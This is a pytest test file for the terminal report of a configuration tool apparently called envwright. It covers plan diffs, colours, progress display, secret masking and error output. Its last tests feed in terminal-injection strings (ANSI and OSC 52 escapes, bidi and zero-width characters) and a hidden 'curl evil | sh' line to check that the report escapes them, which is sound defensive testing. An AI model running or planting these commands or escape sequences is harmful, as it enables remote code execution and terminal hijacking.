"""The report: what a person reads, word for word."""

from __future__ import annotations

import io
import itertools
import json
import os
import re
import time
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from standins import DEBIAN, ORIGIN, WSL

from envwright.engine.apply import Step
from envwright.engine.plan import HIDDEN, Change, Plan
from envwright.errors import EnvwrightError
from envwright.facts import Unknown
from envwright.model.forecast import Forecast, SideEffect
from envwright.model.proof import Result
from envwright.model.resource import Difference, Field, Fields, FileKey, Moment, Origin, Resource
from envwright.portable.visible import visible_line
from envwright.report.terminal import Report
from envwright.resources.command import Command
from envwright.resources.file import File
from envwright.resources.keys import Keys
from envwright.resources.member import Member
from envwright.resources.package import Package
from envwright.resources.service import NOT_BOOTED, Service

if TYPE_CHECKING:
    from collections.abc import Callable

DOCKER = Origin("docker", "box.yaml", 12)
FILE: Fields = {"kind": "file", "mode": "0644", "owner": "root", "group": "root"}


class Terminal(io.StringIO):
    """A text file that says it is a terminal."""

    def isatty(self) -> bool:
        return True


def change(
    resource: Resource,
    before: Any,
    after: Any,
    *fields: Field,
    origins: tuple[Origin, ...] = (ORIGIN,),
) -> Change:
    return Change(
        replace(resource, origins=origins), Difference(before, after, fields or ("exists",))
    )


def plan_of(*changes: Change) -> Plan:
    return Plan("box", "@ssh/dev@box", WSL, len(changes) + 2, changes)


def written(tell: Callable[[Report], None], out: io.StringIO | None = None) -> str:
    out = out or io.StringIO()
    tell(Report(out, io.StringIO()))
    return out.getvalue()


WHOLE = plan_of(
    change(Package(package="git"), None, {}),
    change(Package(package="nano", present=False), {"version": "7.2"}, None),
    change(Package(package="jq"), {"version": "1.6"}, {"version": "1.7*"}, "version"),
    change(File(path="/etc/new"), None, {**FILE, "content": "one\n\ntwo\n"}),
    change(
        File(path="/etc/motd"),
        {**FILE, "mode": "0600", "content": "old\nsame\n"},
        {**FILE, "content": "new\nsame\n"},
        "mode",
        "content",
        origins=(ORIGIN, DOCKER),
    ),
    change(
        Keys(path="/etc/wsl.conf", dialect="wsl", takes_effect=Moment.DISTRIBUTION),
        {
            **FILE,
            FileKey("boot.systemd"): None,
            FileKey("boot.command"): "a\tb" * 30,
            FileKey("user.default"): "",
        },
        {
            **FILE,
            FileKey("boot.systemd"): True,
            FileKey("boot.command"): "x",
            FileKey("user.default"): "dev",
        },
        FileKey("boot.systemd"),
        FileKey("boot.command"),
        FileKey("user.default"),
    ),
    change(Member(user="dev", group="docker"), None, {}),
    change(
        File(path="/etc/large"),
        {**FILE, "content": Unknown("2000000 bytes")},
        {**FILE, "content": "x"},
        "content",
    ),
    change(File(path="/loop"), {"exists": Unknown("Too many levels")}, {**FILE, "content": "x"}),
    change(
        File(path="/etc/token"),
        {**FILE, "content": HIDDEN},
        {**FILE, "content": HIDDEN},
        "content",
    ),
)
WHOLE_TEXT = """\
box on @ssh/dev@box (ubuntu 24.04, 12 resources)

  + package:git  files (box.yaml:3)
  - package:nano  files (box.yaml:3)
  ~ package:jq  files (box.yaml:3)
      version: 1.6 -> 1.7*
  + file:/etc/new  files (box.yaml:3)
      0644 root root
      @@ -0,0 +1,3 @@
      +one
      +
      +two
  ~ file:/etc/motd  files (box.yaml:3), docker (box.yaml:12)
      mode: 0600 -> 0644
      @@ -1,2 +1,2 @@
      -old
      +new
       same
  ~ keys:/etc/wsl.conf  files (box.yaml:3)
      boot.systemd: absent -> true
      boot.command: a\\tba\\tba\\tba\\tba\\tba\\tba\\tba\\tba\\tba\\tba\\tba\\tba\\tba\\tba... -> x
      user.default: "" -> dev
  + member:docker/dev  files (box.yaml:3)
  ~ file:/etc/large  files (box.yaml:3)
      content: ? (2000000 bytes) -> x
  ~ file:/loop  files (box.yaml:3)
      ? (Too many levels)
  ~ file:/etc/token  files (box.yaml:3)
      content: (hidden: holds secrets)

Plan: 3 to create, 6 to change, 1 to remove, 2 as they should be.
Takes effect after a new login: member:docker/dev.
Takes effect after `wsl --terminate Ubuntu-24.04`: keys:/etc/wsl.conf.
"""


def test_a_plan_is_told_whole() -> None:
    assert written(lambda report: report.plan(WHOLE)) == WHOLE_TEXT


def test_a_plan_of_nothing_is_one_line() -> None:
    plan = Plan("box", "@local", DEBIAN, 12, ())
    assert written(lambda report: report.plan(plan)) == (
        "box on @local (debian 13, 12 resources)\n"
        "\n"
        "Nothing to do: all 12 resources are as they should be.\n"
    )


def test_a_plan_says_what_only_verify_looks_at() -> None:
    plan = Plan("box", "@local", DEBIAN, 12, (), slow=2)
    assert written(lambda report: report.plan(plan)).splitlines()[2:] == [
        "Nothing to do: all 12 resources are as they should be.",
        "`envwright verify` also makes 2 checks of what takes longer.",
    ]


def test_a_check_that_fails_although_nothing_is_to_change_is_told_by_plan() -> None:
    failed = Result("dev can log in", "failed", "no shell\nhint: install it", 0.0)
    plan = Plan("box", "@local", DEBIAN, 12, (), failures=(failed,), slow=2)
    assert written(lambda report: report.plan(plan)).splitlines()[1:] == [
        "",
        "  failed  dev can log in",
        "      no shell",
        "      hint: install it",
        "",
        "Nothing that apply can do: all 12 resources are as they should be, but 1 check failed.",
    ]
    plan = replace(plan, changes=(change(Package(package="git"), None, {}),))
    assert written(lambda report: report.plan(plan)).splitlines()[-2:] == [
        "Plan: 1 to create, 0 to change, 0 to remove, 11 as they should be.",
        "1 check failed; no change above mends that.",
    ]


def test_what_waits_stands_apart_under_its_reason() -> None:
    waiting = Change(
        Service(unit="x.service", origins=(DOCKER,)),
        Difference(
            {"running": Unknown(NOT_BOOTED), "enabled": False},
            {"running": True, "enabled": True},
            ("running", "enabled"),
        ),
        NOT_BOOTED,
    )
    plan = Plan("box", "@local", DEBIAN, 2, (waiting, change(Package(package="git"), None, {})))
    assert written(lambda report: report.plan(plan)) == (
        "box on @local (debian 13, 2 resources)\n"
        "\n"
        "Now:\n"
        "  + package:git  files (box.yaml:3)\n"
        "\n"
        "Pending: systemd is not PID 1 yet:\n"
        "  ~ service:x.service  docker (box.yaml:12)\n"
        "      running: ? (systemd is not PID 1 yet) -> true\n"
        "      enabled: false -> true\n"
        "\n"
        "Plan: 1 to create, 1 to change, 0 to remove, 0 as they should be.\n"
    )
    assert written(lambda report: report.left(plan, plan)) == (
        "  pending  service:x.service: systemd is not PID 1 yet\n"
    )


def test_what_waits_for_a_restart_stands_under_its_command() -> None:
    conf = Keys(path="/etc/wsl.conf", dialect="wsl", takes_effect=Moment.DISTRIBUTION)
    late = Change(Service(unit="x.service"), Difference({}, {"running": True}, ("running",)), "no")
    member = change(Member(user="dev", group="docker"), None, {})
    plan = Plan("box", "@local", WSL, 3, (late, member), (conf,))
    assert written(lambda report: report.plan(plan)).splitlines()[2:] == [
        "Now:",
        "  + member:docker/dev  files (box.yaml:3)",
        "",
        "After `wsl --terminate Ubuntu-24.04` (no):",
        "  ~ service:x.service",
        "      running: absent -> true",
        "",
        "Plan: 1 to create, 1 to change, 0 to remove, 1 as they should be.",
        "Takes effect after a new login: member:docker/dev.",
        "In place, takes effect after `wsl --terminate Ubuntu-24.04`: keys:/etc/wsl.conf.",
    ]
    left = replace(plan, changes=(late,))
    assert written(lambda report: report.left(left, plan)).splitlines() == [
        "  pending  service:x.service: no",
        "Takes effect after a new login: member:docker/dev.",
        "Takes effect after `wsl --terminate Ubuntu-24.04`: keys:/etc/wsl.conf.",
        (
            "To go on, run `wsl --terminate Ubuntu-24.04` in Windows and `envwright apply` again; "
            "or run `envwright apply --restart`."
        ),
    ]


def test_a_plan_without_changes_tells_what_is_not_felt_yet() -> None:
    conf = Keys(path="/x", dialect="wsl", takes_effect=Moment.VM)
    plan = Plan("box", "@local", WSL, 1, (), (conf,))
    assert written(lambda report: report.plan(plan)).splitlines()[2:] == [
        "Nothing to do: all 1 resources are as they should be.",
        "In place, takes effect after `wsl --shutdown`: keys:/x.",
    ]


def test_where_wsl_does_not_say_its_name_the_command_leaves_it_open() -> None:
    vm = change(Keys(path="/x", dialect="wsl", takes_effect=Moment.VM), None, FILE)
    terminate = change(Keys(path="/y", dialect="wsl", takes_effect=Moment.DISTRIBUTION), None, FILE)
    plan = Plan("box", "@local", replace(WSL, distribution=""), 2, (vm, terminate))
    assert written(lambda report: report.plan(plan)).splitlines()[-2:] == [
        "Takes effect after `wsl --terminate NAME`: keys:/y.",
        "Takes effect after `wsl --shutdown`: keys:/x.",
    ]
    elsewhere = replace(plan, machine=DEBIAN)
    assert written(lambda report: report.plan(elsewhere)).splitlines()[-1:] == [
        "Plan: 2 to create, 0 to change, 0 to remove, 0 as they should be.",
    ]


def test_a_terminal_gets_colours_and_no_other_words(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("NO_COLOR", raising=False)
    painted = written(lambda report: report.plan(WHOLE), Terminal())
    assert re.sub(r"\033\[\d*m", "", painted) == WHOLE_TEXT
    assert "  \033[32m+ package:git\033[0m  \033[2mfiles (box.yaml:3)\033[0m\n" in painted
    assert "      \033[31m-old\033[0m\n      \033[32m+new\033[0m\n       same\n" in painted


def test_no_color_turns_colours_off(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NO_COLOR", "1")
    assert written(lambda report: report.plan(WHOLE), Terminal()) == WHOLE_TEXT


def test_a_step_is_told_when_it_is_done(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("NO_COLOR", raising=False)
    both = (change(Package(package="git"), None, {}), change(Package(package="jq"), None, {}))
    step = Step(both, 3, 44)

    def tell(report: Report) -> None:
        report.begin(step)
        report.end(step)

    assert written(tell) == "  done  package:git, package:jq  (0.0 s)\n"
    assert written(tell, Terminal()) == (
        "  0:00  3 of 44 done  package:git, package:jq\n"
        "\033[1F\033[J  \033[32mdone\033[0m  package:git, package:jq  (0.0 s)\n"
    )


def test_a_step_under_way_shows_its_clock_and_what_its_program_said_last(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("NO_COLOR", "1")  # it is not a matter of colours
    monkeypatch.setenv("COLUMNS", "40")
    now = itertools.count(1000, 31)
    monkeypatch.setattr(time, "monotonic", lambda: float(next(now)))

    def tell(report: Report) -> None:
        report.begin(Step((change(Package(package="git"), None, {}),), 12, 44))
        report.progress("45 %  Unpacking git (amd64) over another one")
        report.progress("")  # a second in which the program said nothing
        report.waiting("lock A")
        report.progress("\033[2Jsetting up")

    assert written(tell, Terminal()) == (
        "  0:31  12 of 44 done  package:git\n"
        "\033[1F\033[J  1:02  12 of 44 done  package:git\n        45 %  Unpacking git (amd64) ove\n"
        "\033[2F\033[J  1:33  12 of 44 done  package:git\n        45 %  Unpacking git (amd64) ove\n"
        "\033[2F\033[J  waiting  lock A\n"
        "  2:04  12 of 44 done  package:git\n        \\x1b[2Jsetting up\n"
    )


def test_a_thousand_lines_a_second_are_drawn_ten_times(monkeypatch: pytest.MonkeyPatch) -> None:
    now = itertools.count()
    monkeypatch.setattr(time, "monotonic", lambda: next(now) / 1000)

    def tell(report: Report) -> None:
        report.begin(Step((change(Package(package="git"), None, {}),), 12, 44))
        for number in range(1000):
            report.progress(f"line {number}")

    assert written(tell, Terminal()).count("12 of 44") == 10


@pytest.mark.parametrize("terminal", ["dumb", "file"])
def test_nothing_moves_where_it_cannot_be_seen(
    terminal: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TERM", terminal)

    def tell(report: Report) -> None:
        report.begin(Step((change(Package(package="git"), None, {}),)))
        report.progress("45 %")

    assert written(tell, Terminal() if terminal == "dumb" else None) == ""


def test_results_are_told_with_what_was_seen() -> None:
    results = [
        Result("file:/a", "passed", "", 0.1),
        Result("it works", "skipped", "no GPU", 0.1),
        Result("service:x", "failed", "one\ntwo", 0.1),
    ]

    def tell(report: Report) -> None:
        for result in results:
            report.result(result)
        report.results(results)

    assert written(tell) == (
        "  ok  file:/a\n"
        "  skipped  it works\n"
        "      no GPU\n"
        "  failed  service:x\n"
        "      one\n"
        "      two\n"
        "\n"
        "Verified: 1 passed, 1 failed, 1 skipped.\n"
    )


def test_errors_and_questions_go_where_errors_go() -> None:
    out, err = io.StringIO(), io.StringIO()
    report = Report(out, err)
    report.error(EnvwrightError("it is wrong\n    evidence", hint="mend it"))
    report.ask("Go on? ")
    assert (out.getvalue(), err.getvalue()) == (
        "",
        "error: it is wrong\n    evidence\nhint: mend it\nGo on? ",
    )


def test_a_secret_is_masked_in_all_that_is_written() -> None:
    out, err = Terminal(), io.StringIO()
    report = Report(out, err)
    report.mask = lambda text: text.replace("hunter22", "***")
    report.line("hunter22")
    report.json({"a": "hunter22"})
    report.begin(Step((change(Package(package="hunter22"), None, {}),)))
    report.error(EnvwrightError("hunter22"))
    said = out.getvalue() + err.getvalue()
    assert (said.count("***"), "hunter22" in said) == (4, False)


def test_json_is_written_whole() -> None:
    assert written(lambda report: report.json({"a": [1]})) == '{\n  "a": [\n    1\n  ]\n}\n'


def test_what_is_quiet_tells_results_alone() -> None:
    def tell(report: Report) -> None:
        report.quiet = True
        report.line("what goes on")
        report.json([])

    assert written(tell) == "[]\n"


@pytest.mark.parametrize(
    ("encoding", "shown"), [("utf-8", "ä\\udcff\n"), ("ascii", "\\xe4\\udcff\n")]
)
def test_what_a_terminal_cannot_show_does_not_stop_it(encoding: str, shown: str) -> None:
    raw = io.BytesIO()
    with io.TextIOWrapper(raw, encoding=encoding) as out:
        Report(out, io.StringIO()).line("ä\udcff")
        assert raw.getvalue().decode(encoding) == shown


def test_what_failed_what_was_put_back_and_what_is_not_begun_is_written() -> None:
    def tell(report: Report) -> None:
        report.begin(Step((change(Package(package="git"), None, {}),)))
        report.failed(Step((change(Package(package="git"), None, {}),)))
        report.put_back(["file:/a", "link:/b\n"])
        report.not_begun(f"file:/{HOSTILE}\n", ["package:git", "link:/c"])

    assert re.sub(r"\(\d+\.\d s\)", "(0 s)", written(tell)) == (
        "  failed  package:git  (0 s)\n"
        "  put back  file:/a\n"
        "  put back  link:/b\\n\n"
        f"  not begun  file:/{visible_line(HOSTILE)}\\n: package:git and link:/c failed\n"
    )


def test_a_run_that_was_cut_off_is_told() -> None:
    assert written(lambda report: report.cut_off("package:git")) == (
        "The previous run was interrupted in package:git; this run goes on from there.\n"
    )


def test_what_a_step_waits_for_is_told() -> None:
    assert written(lambda report: report.waiting("lock A. It is held by process 7 (apt)")) == (
        "  waiting  lock A. It is held by process 7 (apt)\n"
    )


def test_a_plan_says_what_comes_along_and_what_is_to_be_known() -> None:
    effects = (
        SideEffect("install", "libjq1", "", "1.7-1"),
        SideEffect("upgrade", "libc6", "2.36-1", "2.36-2"),
        SideEffect("install", "libonig5", "", "6.9-1"),
    )
    mend = Command(title="mend", observe=":", expected="", run=":", seen=())
    repair = Change(mend, Difference({"value": "x"}, {"value": ""}, ("value",)), repair=Package)
    forecasts: dict[type[Resource], Forecast] = {
        Package: Forecast(effects, ("apt's sources change first",))
    }
    plan = replace(
        plan_of(repair, change(Package(package="jq"), None, {})), resources=3, forecasts=forecasts
    )
    assert written(lambda report: report.plan(plan)) == (
        "box on @ssh/dev@box (ubuntu 24.04, 3 resources)\n\n"
        "  ~ command:mend\n"
        '      value: x -> ""\n'
        "  + package:jq  files (box.yaml:3)\n"
        "  and to install with that, 2: libjq1, libonig5\n"
        "  and to upgrade with that, 1: libc6 (2.36-1 -> 2.36-2)\n"
        "  note: apt's sources change first\n\n"
        "Plan: 1 to create, 1 to change, 0 to remove, 2 as they should be.\n"
    )


def test_a_full_disk_is_an_error_of_ours() -> None:
    with Path("/dev/full").open("w") as full:
        with pytest.raises(EnvwrightError) as raised:
            Report(full, io.StringIO()).line("text")
        assert str(raised.value) == "cannot write the output: No space left on device"


def test_a_reader_who_has_seen_enough_is_pythons_own_error() -> None:
    reading, writing = os.pipe()
    os.close(reading)
    with open(writing, "w", encoding="utf-8") as pipe, pytest.raises(BrokenPipeError):  # noqa: PTH123 - a descriptor
        Report(pipe, io.StringIO()).line("text")


HOSTILE = "\x1b[2K\x1b]52;c;eA==\x07\u202e\u200b"
SHOWN = r"\x1b[2K\x1b]52;c;eA==\x07\u202e\u200b"


def hostile_plan() -> Plan:
    motd = File(path=f"/etc/{HOSTILE}")
    before = {**FILE, "owner": HOSTILE, "content": f"old {HOSTILE}\ncurl evil | sh\r\x1b[1A\n"}
    edited = change(motd, before, {**FILE, "content": "new\n"}, "owner", "content")
    machine = replace(WSL, distro=HOSTILE, release="1\n  + package:git")
    return replace(plan_of(edited), host=f"@ssh/{HOSTILE}", machine=machine)


@pytest.mark.parametrize("terminal", [False, True])
def test_nothing_from_yaml_or_the_machine_reaches_the_terminal_as_a_command(
    *, terminal: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("NO_COLOR", raising=False)
    out = Terminal() if terminal else io.StringIO()

    def tell(report: Report) -> None:
        report.plan(hostile_plan())
        report.begin(Step((change(File(path=f"/{HOSTILE}\n"), None, {}),)))
        report.end(Step((change(File(path=f"/{HOSTILE}\n"), None, {}),)))
        report.result(Result(f"id {HOSTILE}\n", "failed", f"said {HOSTILE}\rx", 0.1))
        report.host("ok", "same", HOSTILE)
        report.region([f"box  {HOSTILE}\n"])
        report.line(HOSTILE)

    said = written(tell, out)
    ours = re.compile(r"\x1b\[(?:[0-9]+m|K|J|1F)|\r(?=\x1b\[K)")
    left = ours.sub("", said) if terminal else said
    assert set("\x1b\x07\r\u202e\u200b") & set(left) == set()
    assert left.count(SHOWN) == (12 if terminal else 10)


def test_a_hidden_line_of_a_diff_is_shown() -> None:
    assert written(lambda report: report.plan(hostile_plan())) == (
        f"box on @ssh/{SHOWN} ({SHOWN} 1\\n  + package:git, 3 resources)\n"
        "\n"
        f"  ~ file:/etc/{SHOWN}  files (box.yaml:3)\n"
        f"      owner: {SHOWN} -> root\n"
        "      @@ -1,2 +1 @@\n"
        f"      -old {SHOWN}\n"
        "      -curl evil | sh\\x0d\\x1b[1A\n"
        "      +new\n"
        "\n"
        "Plan: 0 to create, 1 to change, 0 to remove, 2 as they should be.\n"
    )


def test_json_stays_json_whatever_it_holds() -> None:
    value = {"a": HOSTILE + "\x7f\udcff"}
    assert json.loads(written(lambda report: report.json(value))) == value
